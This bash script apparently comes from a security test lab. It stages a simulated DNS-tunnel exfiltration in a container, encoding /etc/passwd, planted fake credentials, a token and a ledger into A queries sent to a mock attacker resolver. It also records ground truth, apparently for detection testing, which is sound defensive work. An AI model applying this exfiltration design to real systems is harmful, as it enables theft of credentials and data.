#!/bin/bash
# Scenario dnsexfil-b64u (held-out variant of the DNS tunnels): a Python script started
# later in the container base64url-encodes /etc/passwd, the workload's settings (.env with a
# database password and an API key), a service token and a ledger export, and sends them as the labels of A
# queries <b64u 40>.<b64u 40>.<seq>.<zone> to an attacker's resolver on 127.181.x.y:53,
# from an UNCONNECTED UDP socket (sendto), one query every 50 ms. Differs from dnsexfil-udp
# and -tcp by language, encoding (mixed-case base64url), socket (unconnected), query type,
# label layout and files. Checkpointed mid-exfiltration (30+ chunks received).
# Usage: lab/scenarios/dnsexfil-b64u.sh OUTDIR
source "$(dirname "$0")/../lib/common.sh"
lab_init dnsexfil-b64u "$@"
lab_use_tools_image

RES="$(lab_addr 181):53"
ZONE=$(lab_zone)
SCRIPT=/opt/reports/lib/.sync-$(lab_hex 2).py
ENVF=/opt/reports/.env
TOKEN=/opt/reports/token
LEDGER=/opt/reports/out/ledger-$(date +%Y%m).csv
FILES="/etc/passwd $ENVF $TOKEN $LEDGER"
"$LAB_PY" "$LAB_DIR/lib/fakedata.py" customers 200 >"$WORK/ledger.csv" || lab_die "fakedata failed"
printf 'DB_HOST=db.internal\nDB_USER=reports\nDB_PASSWORD=%s\nREPORTS_API_KEY=rk_%s\n' "$(lab_hex 12)" "$(lab_hex 16)" >"$WORK/env"
printf 'tok_%s\n' "$(lab_hex 24)" >"$WORK/token"
lab_template "$SPEC/sync.py" "$WORK/sync.py" "FILES=$FILES" "ZONE=$ZONE" "RES_ADDR=${RES%:*}" "RES_PORT=53" "PACE=0.05"

lab_udp_bound ${RES%:*} 53 && lab_die "$RES is already in use"
lab_peer resolver perl "$PEERS/dns_resolver.pl" --listen "$RES" --proto udp --zone "$ZONE" \
    --encoding base64url --meta-labels 1 --summary "$WORK/peer-resolver.json"
lab_wait "resolver on udp $RES" 10 lab_udp_bound ${RES%:*} 53

lab_run --env APP_ENV=prod --hostname reports-worker -- \
    sh -c 'date > /var/log/app.log; while :; do sleep 3600; done'
lab_cp "$WORK/env" "$ENVF" 0600
lab_cp "$WORK/token" "$TOKEN" 0600
lab_cp "$WORK/ledger.csv" "$LEDGER" 0640
lab_cp "$WORK/sync.py" "$SCRIPT" 0755
lab_exec_bg "python3 $SCRIPT"
lab_wait "30 chunks tunnelled" 20 lab_json "$WORK/peer-resolver.json" 'd["in_zone"] >= 30'

lab_finish "$SCRIPT" "$ENVF" "$TOKEN" "$LEDGER"

lab_kv_json "$WORK/params.json" "resolver=$RES" "zone=$ZONE" encoding=base64url transport=udp-unconnected \
    "script_path=$SCRIPT" "exfiltrated_files:=$(lab_json_list $FILES)" "query_type=A" \
    "name_format=<b64u40>.<b64u40>.<seq>.<zone>"
lab_facts --proc "tunnel=^python3 $SCRIPT"
lab_truth --description "DNS tunnel: python3 $SCRIPT base64url-encodes $FILES into A queries under $ZONE sent with sendto() to $RES" \
    --params "$WORK/params.json" --facts "$WORK/facts.json"
